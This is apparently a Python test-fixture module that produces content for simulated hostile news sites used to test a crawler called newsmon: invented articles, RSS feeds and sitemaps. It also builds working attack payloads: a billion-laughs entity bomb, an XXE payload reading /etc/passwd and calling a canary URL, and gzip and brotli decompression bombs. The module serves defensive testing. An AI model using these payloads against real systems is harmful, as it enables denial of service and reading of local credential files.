"""Bodies the hostile outlets serve: articles, feeds, sitemaps, and the attacks.

Pure functions of their arguments (and of ``now``); the bombs are built once per process.
"""

from __future__ import annotations

import functools
import random
import zlib
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from html import escape

import brotli

_PROSE = (
    "the harbour authority said on tuesday that the new ferry schedule would begin next month after "
    "a long consultation with residents who had asked for earlier crossings and better connections "
    "to the regional rail network while the council promised to publish the full timetable before "
    "the summer season and to review fares for students pensioners and families travelling together"
)
_WORDS = tuple(_PROSE.split(" "))


def paragraphs(seed: int, count: int = 5, words: int = 60) -> list[str]:
    """``count`` paragraphs of plausible invented prose, different for each ``seed``."""
    rng = random.Random(seed)
    return [" ".join(rng.choice(_WORDS) for _ in range(words)).capitalize() + "." for _ in range(count)]


def article_html(title: str, published: datetime, seed: int, *, charset: str = "utf-8") -> bytes:
    """An article page that newsmon's extraction accepts."""
    body = "".join(f"<p>{escape(p)}</p>\n" for p in paragraphs(seed))
    page = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="{charset}"><title>{escape(title)} | Hostile Times</title>
<meta property="og:title" content="{escape(title)}">
<meta property="og:type" content="article">
<meta property="article:published_time" content="{published.isoformat()}">
</head><body>
<header><nav><a href="/">Home</a> <a href="/section/">World</a></nav></header>
<main><article>
<h1>{escape(title)}</h1>
<p class="byline">By Ada Reporter, <time datetime="{published.isoformat()}">{published:%d %B %Y}</time></p>
{body}</article></main>
<footer><p>Hostile Times, an invented newspaper.</p></footer>
</body></html>
"""
    return page.encode(charset)


FRENCH = (
    "Le conseil municipal a annoncé mercredi que la traversée du port serait réorganisée dès l'été prochain.",
    "Les élus ont précisé que les tarifs réduits resteraient en vigueur pour les étudiants et les retraités, "
    "et que la fréquence des départs augmenterait pendant la période estivale.",
    "« Nous avons écouté les habitants », a déclaré la maire, évoquant une concertation de plusieurs mois "
    "et des réunions publiques très fréquentées où chacun a pu s'exprimer.",
    "Le nouveau bac, plus économe en énergie, arrivera à la fin de l'année ; d'ici là, l'ancien navire "
    "continuera d'assurer les rotations, malgré des pannes répétées qui ont exaspéré les usagers.",
)


def french_article_html(title: str, published: datetime) -> str:
    """A French article (text, to be encoded by the caller in whatever charset it lies about)."""
    body = "".join(f"<p>{escape(p)}</p>\n" for p in FRENCH)
    return f"""<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>{escape(title)}</title>
<meta property="og:title" content="{escape(title)}">
<meta property="article:published_time" content="{published.isoformat()}">
</head><body><main><article><h1>{escape(title)}</h1>
{body}</article></main></body></html>
"""


def rss(items: Sequence[tuple[str, str, datetime | None]], *, title: str = "Hostile Times",
        extra_channel: str = "", encoding: str = "utf-8") -> bytes:
    """An RSS 2.0 feed of (title, link, date) items; ``encoding`` is the declared one."""
    entries = []
    for item_title, link, date in items:
        when = f"<pubDate>{format_datetime(date)}</pubDate>" if date else ""
        entries.append(f"<item><title>{escape(item_title)}</title><link>{escape(link)}</link>"
                       f"<guid>{escape(link)}</guid>{when}</item>")
    return (f'<?xml version="1.0" encoding="{encoding}"?>\n<rss version="2.0"><channel><title>{title}</title>'
            f"<link>http://example.invalid/</link>{extra_channel}{''.join(entries)}</channel></rss>\n").encode(
        "utf-8" if encoding.lower() == "utf-8" else encoding)


def sitemap(urls: Sequence[tuple[str, datetime | None]], *, news: bool = False) -> bytes:
    """A urlset of (loc, lastmod); with ``news``, Google News publication dates as well."""
    parts = []
    for loc, date in urls:
        lastmod = f"<lastmod>{date.isoformat()}</lastmod>" if date else ""
        extra = ""
        if news and date:
            extra = (f"<news:news><news:publication><news:name>Hostile</news:name><news:language>en"
                     f"</news:language></news:publication><news:publication_date>{date.isoformat()}"
                     f"</news:publication_date><news:title>t</news:title></news:news>")
        parts.append(f"<url><loc>{escape(loc)}</loc>{lastmod}{extra}</url>")
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
            'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">' + "".join(parts) + "</urlset>\n").encode()


def sitemap_index(locs: Sequence[str]) -> bytes:
    children = "".join(f"<sitemap><loc>{escape(loc)}</loc></sitemap>" for loc in locs)
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex xmlns="http://www.sitemaps.org/schemas/'
            f'sitemap/0.9">{children}</sitemapindex>\n').encode()


def huge_feed(base_url: str, items: int, now: datetime) -> bytes:
    """An RSS feed of ``items`` minimal items, all fresh (a few MB for 100,000)."""
    date = format_datetime(now - timedelta(minutes=5))
    head = b'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>huge</title>'
    body = "".join(f"<item><link>{base_url}/a/{n}</link><pubDate>{date}</pubDate></item>" for n in range(items))
    return head + body.encode() + b"</channel></rss>\n"


def billion_laughs(root: str) -> bytes:
    """The billion-laughs entity bomb around a feed (``rss``) or sitemap (``urlset``) root."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)
    ]
    doctype = f"<!DOCTYPE {root} [{''.join(entities)}]>"
    if root == "rss":
        inner = "<channel><title>&lol9;</title><item><title>&lol9;</title><link>http://x.invalid/&lol9;</link></item></channel>"
        return f'<?xml version="1.0"?>\n{doctype}<rss version="2.0">{inner}</rss>'.encode()
    inner = "<url><loc>http://x.invalid/&lol9;</loc></url>"
    return (f'<?xml version="1.0"?>\n{doctype}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"{inner}</urlset>").encode()


def xxe(root: str, base_url: str) -> bytes:
    """External entities to a local file and to ``<base_url>/canary``, used in text and links."""
    canary_url = base_url + "/canary"
    doctype = (f'<!DOCTYPE {root} [<!ENTITY file SYSTEM "file:///etc/passwd">'
               f'<!ENTITY net SYSTEM "{canary_url}"><!ENTITY % pe SYSTEM "{canary_url}-pe"> %pe;]>')
    if root == "rss":
        inner = ("<channel><title>&file;</title><item><title>&file;&net;</title>"
                 f"<link>{base_url}/a/9&file;&net;</link></item></channel>")
        return f'<?xml version="1.0"?>\n{doctype}<rss version="2.0">{inner}</rss>'.encode()
    inner = f"<url><loc>{base_url}/a/8&file;&net;</loc></url>"
    return (f'<?xml version="1.0"?>\n{doctype}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"{inner}</urlset>").encode()


#: Decompressed size of the bombs; far above any fetch.max_size a test uses.
BOMB_SIZE = 256 * 1024 * 1024


@functools.cache
def gzip_bomb() -> bytes:
    """``BOMB_SIZE`` zero bytes, gzipped (about 250 KB)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = bytes(1024 * 1024)
    out = [compressor.compress(chunk) for _ in range(BOMB_SIZE // len(chunk))]
    out.append(compressor.flush())
    return b"".join(out)


@functools.cache
def brotli_bomb() -> bytes:
    """``BOMB_SIZE`` zero bytes, brotli-compressed (a few hundred bytes)."""
    compressor = brotli.Compressor(quality=5)
    chunk = bytes(1024 * 1024)
    out = [compressor.process(chunk) for _ in range(BOMB_SIZE // len(chunk))]
    out.append(compressor.finish())
    return b"".join(out)


def now_utc() -> datetime:
    return datetime.now(UTC).replace(microsecond=0)
